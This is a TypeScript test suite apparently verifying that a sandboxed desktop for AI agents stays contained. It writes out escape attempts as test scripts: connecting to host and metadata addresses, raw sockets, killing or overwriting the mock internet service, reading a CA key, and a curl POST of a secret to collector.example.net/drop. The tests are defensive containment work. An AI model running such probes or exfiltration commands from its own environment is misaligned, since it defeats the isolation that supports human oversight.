import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { createServer, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SandboxDesktop } from '../../src/desktop/providers/sandbox/sandbox-desktop.ts';
import { SandboxProvider } from '../../src/desktop/providers/sandbox/sandbox-provider.ts';
import { accounts, attempt, attemptPython } from './inside.ts';

const provider = new SandboxProvider();
let desktop: SandboxDesktop;
let tcp: Server;
let abstract: Server;
const udp = createSocket('udp4');
const abstractName = `host-${randomBytes(6).toString('hex')}`;
let reached = 0;
let port = 0;
let udpPort = 0;

beforeAll(async () => {
  const count = () => {
    reached += 1;
  };
  tcp = createServer(count).listen(0, '::');
  abstract = createServer(count).listen(`\0${abstractName}`);
  udp.on('message', count);
  await Promise.all([
    new Promise((resolve) => tcp.once('listening', resolve)),
    new Promise((resolve) => abstract.once('listening', resolve)),
    new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', resolve)),
  ]);
  port = (tcp.address() as { port: number }).port;
  udpPort = udp.address().port;
  await provider.check();
  desktop = await provider.create({ width: 1280, height: 720 });
});

afterAll(async () => {
  await provider.close();
  tcp.close();
  abstract.close();
  udp.close();
});

function hostAddresses(): string[] {
  const addresses = Object.values(networkInterfaces()).flatMap((list) => (list ?? []).map((entry) => entry.address));
  return [
    ...new Set([
      ...addresses,
      ...addresses
        .filter((address) => /^\d/.test(address) && !address.startsWith('127.'))
        .map((address) => `::ffff:${address}`),
      '127.0.0.1',
      '::1',
      '8.8.8.8',
      '1.1.1.1',
      '169.254.169.254',
      '10.0.0.1',
      '192.168.0.1',
      '172.17.0.1',
    ]),
  ];
}

describe.each(accounts)('%s inside', (account) => {
  it('an agent inside reaches no listener of the host and no external address', async () => {
    const program = `
import socket
for address in ${JSON.stringify(hostAddresses())}:
    family = socket.AF_INET6 if ':' in address else socket.AF_INET
    for port in (${port}, 53, 22):
        try:
            s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(0.5); s.connect((address, port))
            # Here the mock services answer: their name server, and what takes tries at port 22.
            if not (address == '127.0.0.1' and port in (53, 22)): print('CONNECTED', address, port)
        except OSError: pass
    try:
        socket.socket(family, socket.SOCK_DGRAM).sendto(b'x', (address, ${udpPort}))
    except OSError: pass
print('done')`;
    const { output } = await attemptPython(desktop, account, program);
    expect(output.trim()).toBe('done');
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(reached).toBe(0);
  });

  it('an agent inside has no other socket types and no raw sockets', async () => {
    const program = `
import socket
for family, kind in [(40, 1), (38, 5), (17, 3), (31, 1), (16, 3), (2, 3), (10, 3), (44, 3), (29, 3), (1 << 32 | 40, 1)]:
    try:
        s = socket.socket(family & 0xffffffff, kind)
        print('MADE', family, kind) if family != 16 else None
    except (OSError, OverflowError): pass
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for domain in (40, 40 | 1 << 32, 38 | 1 << 40):
    if libc.syscall(ctypes.c_long(41), ctypes.c_long(domain), ctypes.c_long(1), ctypes.c_long(0)) >= 0: print('MADE', domain)
print('done')`;
    expect((await attemptPython(desktop, account, program)).output.trim()).toBe('done');
  });

  it('an agent inside cannot connect to abstract sockets of the host or its own control socket', async () => {
    const program = `
import socket, os
for name in ['\\0${abstractName}', ${JSON.stringify(desktop.controlPath)}]:
    try:
        s = socket.socket(socket.AF_UNIX); s.connect(name); print('CONNECTED')
    except OSError: pass
for line in open('/proc/net/unix'):
    if 'desktop' in line or 'internet' in line or ${JSON.stringify(abstractName)} in line: print('SEEN', line)
print('done')`;
    expect((await attemptPython(desktop, account, program)).output.trim()).toBe('done');
    expect(reached).toBe(0);
  });

  it('an agent inside cannot change its network', async () => {
    const script = `ip link add d0 type dummy; ip link set lo down; ip route del local 198.18.0.0/15 dev lo table local; ip addr add 10.9.8.7/8 dev lo; ip -br addr; true`;
    const { output } = await attempt(desktop, account, script);
    expect(output).toMatch(/not permitted/);
    expect(output).not.toContain('10.9.8.7');
    expect(output).toMatch(/^lo\s+\S+\s+127\.0\.0\.1\/8 ::1\/128 *$/m);
  });

  it('an agent inside cannot see, stop, replace or edit the mock internet', async () => {
    const script = `ps -eo args | grep -E 'internet[.]mjs|packet_log[.]py|program_log[.]py' | grep -v grep; cat /mnt/ca
bind() { python3 -c "import socket; s=socket.socket(); s.setsockopt(1,15,1); s.setsockopt(1,2,1); s.bind(('$1',$2)); s.listen(); print('$3')" 2>&1 | tail -1; }
for a in 0.0.0.0 127.0.0.1 127.0.0.53 198.18.0.9; do bind $a 53 BOUND; bind $a 25 BOUND; done
for p in 80 443; do bind 198.18.0.9 $p BOUND; for a in 0.0.0.0 127.0.0.1 127.0.0.53; do bind $a $p OWN; done; done
echo 'process.exit()' > /usr/lib/session/internet.mjs; fuser -k 80/tcp 443/tcp 53/udp; true`;
    const { output } = await attempt(desktop, account, script);
    expect(output).not.toMatch(/BOUND|PRIVATE KEY|session\/node|python3 -I/);
    // Root's own pages are on the desktop's own addresses (`program_log.py`); those of all other hosts stay with the mock services.
    expect(output.match(/OWN/g)?.length ?? 0).toBe(account === 'root' ? 6 : 0);
    expect(output).toContain('Permission denied');
    const page = await attempt(desktop, account, 'curl -sS https://www.example.org/');
    expect(page.output).toContain('<h1>www.example.org</h1>');
  });
});

it('requests are seen from outside, whatever their headers say', async () => {
  const since = Date.now();
  await attempt(desktop, 'user', "curl -sS -H 'Host: innocent.example' -d secret=1 http://collector.example.net/drop");
  const requests = (await desktop.webLog(since)).filter((entry) => entry.kind === 'http');
  expect(requests).toHaveLength(1);
  expect(requests[0]).toMatchObject({ host: 'collector.example.net', method: 'POST', path: '/drop', bytes: 8 });
  expect(Buffer.from(requests[0]?.body ?? '', 'base64').toString()).toBe('secret=1');
});
